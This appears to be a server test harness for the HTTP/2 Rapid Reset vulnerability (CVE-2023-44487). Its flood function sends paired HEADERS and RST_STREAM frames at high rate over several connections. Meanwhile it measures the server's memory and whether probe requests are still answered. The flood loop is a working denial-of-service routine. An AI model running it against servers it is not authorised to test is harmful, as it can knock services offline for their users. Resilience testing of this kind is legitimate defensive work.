"""Rapid reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) for --streams new
streams on each of --connections connections, as fast as the socket takes them, while a
probe (a curl command printing 'STATUS SECONDS') checks that other clients are served.

Pass: each connection either is closed by the server (GOAWAY) or gets all its streams in,
the server's peak RSS stays under --bound-mb, and every probe answers 200 within
--probe-max seconds."""

import asyncio
import shlex
import time

import h2wire


def stateless_get(args):
    """GET / with only static-table references and one literal: the same bytes every time."""
    authority = ("%s:%d" % (args.sni, args.port)).encode()
    return b"\x82\x87\x84\x01" + bytes([len(authority)]) + authority


async def flood(args, results):
    peer = await h2wire.h2_open(args)
    block = stateless_get(args)
    started = time.monotonic()
    stream, sent = 1, 0
    while sent < args.streams and not peer.closed:
        batch = []
        for _ in range(min(args.batch, args.streams - sent)):
            batch.append(h2wire.frame(h2wire.HEADERS, h2wire.END_HEADERS | h2wire.END_STREAM,
                                      stream, block))
            batch.append(h2wire.rst_stream(stream))
            stream += 2
            sent += 1
        if not peer.send(b"".join(batch)):
            break
        try:
            await asyncio.wait_for(peer.writer.drain(), 10)
        except (OSError, asyncio.TimeoutError, RuntimeError):
            break
    elapsed = time.monotonic() - started
    await peer.wait_closed(1.0)
    results.append((sent, elapsed, peer.closed, peer.goaway_name(), len(peer.statuses), peer.rst,
                    (peer.goaway_last + 1) // 2 if peer.goaway_last is not None else None))
    peer.abort()


async def probe(args):
    proc = await asyncio.create_subprocess_exec(*shlex.split(args.probe),
                                                stdout=asyncio.subprocess.PIPE,
                                                stderr=asyncio.subprocess.DEVNULL)
    out, _ = await proc.communicate()
    words = out.decode().split()
    if proc.returncode != 0 or len(words) != 2:
        return (0, 99.0)
    return (int(words[0]), float(words[1]))


async def main(args):
    sampler = h2wire.RssSampler(args.pid, 0.05).start()
    results = []
    attack = asyncio.ensure_future(
        asyncio.gather(*(flood(args, results) for _ in range(args.connections))))
    probes = []
    await asyncio.sleep(0.01)
    while not attack.done() and len(probes) < 20:
        probes.append(await probe(args))
        await asyncio.sleep(0.2)
    await attack
    probes.append(await probe(args))
    sampler.stop()
    peak = sampler.peak
    worst = max(p[1] for p in probes)
    probe_ok = all(p[0] == 200 for p in probes) and worst <= args.probe_max
    # Each connection is either closed by the server (its GOAWAY may be lost to the TCP
    # reset that closing over unread frames causes) or takes every stream.
    each_ok = all(r[2] or r[0] == args.streams for r in results)
    sent = sum(r[0] for r in results)
    rate = sent / max(sum(r[1] for r in results), 1e-6)
    taken = sorted(r[6] for r in results if r[6] is not None)
    closed = sum(1 for r in results if r[2])
    outcome = "%d/%d conn closed by the server (%s)" % (
        closed, len(results), ", ".join(sorted({r[3] for r in results if r[2]})) or "-")
    if taken:
        outcome += " after %d-%d streams (last stream id / 2)" % (taken[0], taken[-1])
    still_open = sum(1 for r in results if not r[2])
    if still_open:
        outcome += ", %d conn still open" % still_open
    h2wire.finish(probe_ok and each_ok and peak < args.bound_mb,
                  "%d HEADERS+RST_STREAM pairs sent on %d conn (%.0f/s): %s; %d responses; "
                  "peak RSS %.1f MB (at start %.1f, bound %d); %d probes 200, max %.0f ms"
                  % (sent, args.connections, rate, outcome, sum(r[4] for r in results),
                     peak, sampler.first, args.bound_mb, sum(1 for p in probes if p[0] == 200),
                     worst * 1000))


if __name__ == "__main__":
    ARGS = h2wire.arguments(
        __doc__,
        connections=(int, 1, "connections"),
        streams=(int, 10000, "streams per connection"),
        batch=(int, 100, "streams per write"),
        probe=(str, "", "the probe command; prints 'STATUS SECONDS'"),
        probe_max=(float, 1.0, "seconds the probe may take"),
        bound_mb=(int, 100, "peak RSS bound"),
    )
    h2wire.run(lambda: main(ARGS))
